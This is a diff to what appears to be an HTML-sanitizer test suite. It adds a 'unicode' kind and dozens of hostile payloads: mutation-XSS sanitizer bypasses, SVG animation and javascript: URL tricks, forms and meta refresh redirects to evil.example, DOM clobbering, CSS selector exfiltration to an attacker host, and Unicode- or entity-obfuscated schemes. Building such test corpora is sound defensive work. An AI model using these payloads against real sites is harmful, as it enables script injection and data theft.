@@ -22,7 +22,8 @@ export interface HostilePayload {
     | 'loading-attribute'
     | 'legacy-element'
     | 'markdown'
-    | 'clobbering';
+    | 'clobbering'
+    | 'unicode';
   html: string;
 }
 
@@ -566,5 +567,216 @@ export const HOSTILE_PAYLOADS: HostilePayload[] = [
     id: 'clob-boot',
     kind: 'clobbering',
     html: `<script type="application/json" id="portal-boot">{"modules":["data:text/javascript,${run('clob-boot')}"]}</script><a id="portal-boot" href="x">{}</a>`,
+  },
+  // The thirty-third session's round: classes the sets above lacked (each checked against them, none a respelling).
+  // Mutation XSS: `</br>` (the other end tag foreign content hands back to HTML), the h1/h6 misnesting of the
+  // DOMPurify 2.2.2 bypass, comments, CDATA and processing instructions inside SVG and MathML, and raw-text
+  // elements inside foreign content.
+  {
+    id: 'mx-svg-br',
+    kind: 'mutation',
+    html: `<svg></br><style><a id="</style><img src=1 onerror=${run('mx-svg-br')}>">`,
+  },
+  {
+    id: 'mx-math-br',
+    kind: 'mutation',
+    html: `<math><mi></br><style><a id="</style><img src=1 onerror=${run('mx-math-br')}>"></mi></math>`,
+  },
+  {
+    id: 'mx-h1-h6-mglyph',
+    kind: 'mutation',
+    html: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${run('mx-h1-h6-mglyph')}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
+  },
+  {
+    id: 'mx-svg-comment',
+    kind: 'mutation',
+    html: `<svg><!--</svg><img src=x onerror=${run('mx-svg-comment')}>--><desc><!--><img src=x onerror=${run('mx-svg-comment')}>--></desc></svg>`,
+  },
+  {
+    id: 'mx-math-comment',
+    kind: 'mutation',
+    html: `<math><mi><!--</mi></math><img src=x onerror=${run('mx-math-comment')}>--></mi></math>`,
+  },
+  {
+    id: 'mx-svg-style-cdata',
+    kind: 'mutation',
+    html: `<svg><style><![CDATA[</style><img src=x onerror=${run('mx-svg-style-cdata')}>]]></style></svg>`,
+  },
+  {
+    id: 'mx-math-cdata',
+    kind: 'mutation',
+    html: `<math><mi><![CDATA[</mi></math><img src=x onerror=${run('mx-math-cdata')}>]]></mi></math>`,
+  },
+  {
+    id: 'mx-svg-pi',
+    kind: 'mutation',
+    html: `<svg><?xml-stylesheet href="javascript:${run('mx-svg-pi')}"?><?x </svg><img src=x onerror=${run('mx-svg-pi')}> ?></svg>`,
+  },
+  {
+    id: 'mx-svg-noscript',
+    kind: 'mutation',
+    html: `<svg><foreignObject><noscript><p title="</noscript><img src=x onerror=${run('mx-svg-noscript')}>"></p></noscript></foreignObject></svg>`,
+  },
+  {
+    id: 'mx-math-xmp',
+    kind: 'mutation',
+    html: `<math><mtext><xmp><p title="</xmp><img src=x onerror=${run('mx-math-xmp')}>"></xmp></mtext></math>`,
+  },
+  {
+    id: 'mx-svg-noembed',
+    kind: 'mutation',
+    html: `<svg><desc><noembed><p title="</noembed><img src=x onerror=${run('mx-svg-noembed')}>"></noembed></desc></svg><noframes><a title="</noframes><svg onload=${run('mx-svg-noembed')}>"></a></noframes>`,
+  },
+  {
+    id: 'mx-svg-iframe-plaintext',
+    kind: 'mutation',
+    html: `<svg><title><iframe><a title="</iframe><img src=x onerror=${run('mx-svg-iframe-plaintext')}>"></a></iframe></title></svg><math><mtext><plaintext><img src=x onerror=${run('mx-svg-iframe-plaintext')}></plaintext></mtext></math>`,
+  },
+  {
+    id: 'mx-template-svg',
+    kind: 'mutation',
+    html: `<template><svg><style><img src=x onerror=${run('mx-template-svg')}></style></svg></template><svg><template><style></template><img src=x onerror=${run('mx-template-svg')}></style></svg>`,
+  },
+  {
+    id: 'mx-select-style',
+    kind: 'mutation',
+    html: `<select><style></select><img src=x onerror=${run('mx-select-style')}></style></select><select><div><img src=x onerror=${run('mx-select-style')}></div></select>`,
+  },
+  {
+    id: 'mx-p-close',
+    kind: 'mutation',
+    html: `<table></p><img src=x onerror=${run('mx-p-close')}></table><svg><p></svg><style><img src=x onerror=${run('mx-p-close')}></style>`,
+  },
+  {
+    id: 'mx-form-math-svg',
+    kind: 'mutation',
+    html: `<form><math><mtext></form><form><mglyph><svg><style></math><img src onerror=${run('mx-form-math-svg')}>`,
+  },
+  // SVG and SMIL beyond the sets above: feImage, values lists, set of xlink:href, animateMotion's begin.
+  {
+    id: 'svg-feimage',
+    kind: 'svg-animation',
+    html: `<svg><filter id="f"><feImage href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${run('svg-feimage')}'/>"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
+  },
+  {
+    id: 'svg-values-list',
+    kind: 'svg-animation',
+    html: `<svg><a id="v"><animate attributeName="href" values="#;javascript:${run('svg-values-list')}" dur="0.1s" fill="freeze"/><text y="20">v</text></a></svg>`,
+  },
+  {
+    id: 'svg-set-xlink',
+    kind: 'svg-animation',
+    html: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="#"><set attributeName="xlink:href" to="javascript:${run('svg-set-xlink')}"/><text y="20">s</text></a><animateMotion begin="0s" onend="${run('svg-set-xlink')}" dur="0.1s"/></svg>`,
+  },
+  {
+    id: 'svg-use-fragment',
+    kind: 'svg-animation',
+    html: `<svg><use href="#user-content-x"/><use xlink:href="media/poster.png#x"/><image href="javascript:${run('svg-use-fragment')}"/></svg>`,
+  },
+
+  // Navigation and forms: a new window without noopener, pings, areas, entity-encoded srcdoc, objects.
+  {
+    id: 'nav-target-blank',
+    kind: 'document',
+    html: `<a href="https://example.com/" target="_blank">tb</a><a href="https://example.com/" target="_top" rel="opener">tt</a><area href="https://example.com/" target="_blank">`,
+  },
+  {
+    id: 'nav-refresh-spaced',
+    kind: 'document',
+    html: `<meta http-equiv=" refresh " content="0,url=https://evil.example/"><meta http-equiv="set-cookie" content="sid=evil; path=/">`,
+  },
+  {
+    id: 'nav-srcdoc-named',
+    kind: 'embedding',
+    html: `<iframe srcdoc="&lt;script&gt;parent.${run('nav-srcdoc-named')}&lt;/script&gt;&amp;lt;"></iframe><iframe src="/api/{{prefix}}/logout" loading="eager"></iframe>`,
+  },
+  {
+    id: 'nav-object-embed-media',
+    kind: 'embedding',
+    html: `<object data="media/poster.png" type="text/html"></object><embed src="media/poster.png" type="image/svg+xml"><object data="/api/{{prefix}}/logout"></object>`,
+  },
+  {
+    id: 'nav-formaction-nested',
+    kind: 'form',
+    html: `<form action="https://evil.example/"><input name="q" value="x"><button formaction="javascript:${run('nav-formaction-nested')}" formtarget="_blank">b</button><input type="submit" formmethod="post"></form>`,
+  },
+
+  // Handlers on newer elements and attributes.
+  {
+    id: 'ev-popover-toggle',
+    kind: 'event-handler',
+    html: `<div popover="manual" id="pm" ontoggle="${run('ev-popover-toggle')}">p</div><a popovertarget="user-content-pm" popovertargetaction="show">s</a>`,
+  },
+  {
+    id: 'ev-beforematch',
+    kind: 'event-handler',
+    html: `<div hidden="until-found" id="bm" onbeforematch="${run('ev-beforematch')}">bm</div><a href="#bm">reveal</a>`,
+  },
+  {
+    id: 'ev-newer-handlers',
+    kind: 'event-handler',
+    html: `<p onsecuritypolicyviolation="${run('ev-newer-handlers')}" onscrollsnapchange="${run('ev-newer-handlers')}" onpointerrawupdate="${run('ev-newer-handlers')}" oncommand="${run('ev-newer-handlers')}" onbeforeinput="${run('ev-newer-handlers')}" contenteditable autofocus>n</p>`,
+  },
+  {
+    id: 'ev-dialog-open',
+    kind: 'event-handler',
+    html: `<dialog open onclose="${run('ev-dialog-open')}" oncancel="${run('ev-dialog-open')}"><p autofocus tabindex="0" onfocus="${run('ev-dialog-open')}">d</p></dialog>`,
+  },
+  {
+    id: 'ev-media-events',
+    kind: 'event-handler',
+    html: `<video src="media/welcome.webm" muted autoplay onloadedmetadata="${run('ev-media-events')}" oncanplay="${run('ev-media-events')}" onplay="${run('ev-media-events')}"></video><img src="media/poster.png" onload="${run('ev-media-events')}" loading="lazy" alt="l">`,
+  },
+
+  // DOM clobbering of the globals the portal's own code reads (window.location, document.getElementById('root'),
+  // the boot element), and of the prototype.
+  {
+    id: 'clob-location',
+    kind: 'clobbering',
+    html: `<img name="location"><form id="location"></form><a id="location" href="javascript:${run('clob-location')}">l</a><img name="getElementById"><img id="__proto__" name="__proto__"><a id="root" name="root"></a><img name="cookie"><img name="matchMedia"><img name="requestIdleCallback">`,
+  },
+  {
+    id: 'clob-document-props',
+    kind: 'clobbering',
+    html: `<form name="forms"><img name="documentElement"></form><img name="activeElement"><img name="baseURI"><embed name="scripts"><object name="head"></object>`,
+  },
+  // CSS: attribute-selector exfiltration, `@import` and `url()` in sheets and attributes, animations to fire
+  // handlers (the sheet is what would let them run).
+  {
+    id: 'css-attribute-selector',
+    kind: 'css',
+    html: `<style>input[value^="a"]{background:url(/api/{{prefix}}/logout?a)}a[href^="/{{prefix}}"]{background:url(https://evil.example/leak)}</style><svg><style>@import url(https://evil.example/s.css);</style></svg>`,
+  },
+  {
+    id: 'css-keyframes-handler',
+    kind: 'css',
+    html: `<style>@keyframes k{from{opacity:0}to{opacity:1}}</style><p style="animation:k 0.1s" onanimationstart="${run('css-keyframes-handler')}" onanimationend="${run('css-keyframes-handler')}" ontransitionend="${run('css-keyframes-handler')}">k</p>`,
+  },
+
+  // Unicode and encodings: fullwidth brackets, Javascript behind `//` comments, schemes in other letters.
+  {
+    id: 'uni-fullwidth',
+    kind: 'unicode',
+    html: `＜script＞${run('uni-fullwidth')}＜/script＞ ＜img src=x onerror=${run('uni-fullwidth')}＞ \uFE64img src=x onerror=${run('uni-fullwidth')}\uFE65 \u2039svg onload=${run('uni-fullwidth')}\u203A`,
+  },
+  {
+    id: 'uni-js-comment',
+    kind: 'unicode',
+    html: `<a href="javascript://example.com/%0A${run('uni-js-comment')}">c1</a><a href="javascript://%0d%0a${run('uni-js-comment')}">c2</a><a href="javascript:/*//example.com*/${run('uni-js-comment')}">c3</a>`,
+  },
+  {
+    id: 'uni-scheme-lookalike',
+    kind: 'unicode',
+    html: `<a href="ｊａｖａｓｃｒｉｐｔ:${run('uni-scheme-lookalike')}">fw</a><a href="java&#0;script:${run('uni-scheme-lookalike')}">nul</a><a href="jav\u00ADascript:${run('uni-scheme-lookalike')}">shy</a><a href="\u017Fcript:x">s</a><a href="JAVASCRİPT:${run('uni-scheme-lookalike')}">dot</a>`,
+  },
+  {
+    id: 'uni-entities',
+    kind: 'unicode',
+    html: `<a href="&#X6A;AVASCRIPT&#X3a;${run('uni-entities')}">hx</a><a href="&Jfr;avascript:x">fr</a><a href="javascript&#x0003A;${run('uni-entities')}">z</a><a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&colon;${run('uni-entities')}">mix</a><a href="j&#x0a;a&#x0d;v&#x09;ascript&#x3a;${run('uni-entities')}">ws</a>`,
+  },
+  {
+    id: 'uni-md-schemes',
+    kind: 'unicode',
+    html: `[fw](ｊavascript:${run('uni-md-schemes')}) [nl](java%0Ascript:${run('uni-md-schemes')}) [cm](javascript://%0A${run('uni-md-schemes')}) <javascript://%0a${run('uni-md-schemes')}>`,
   },
 ];
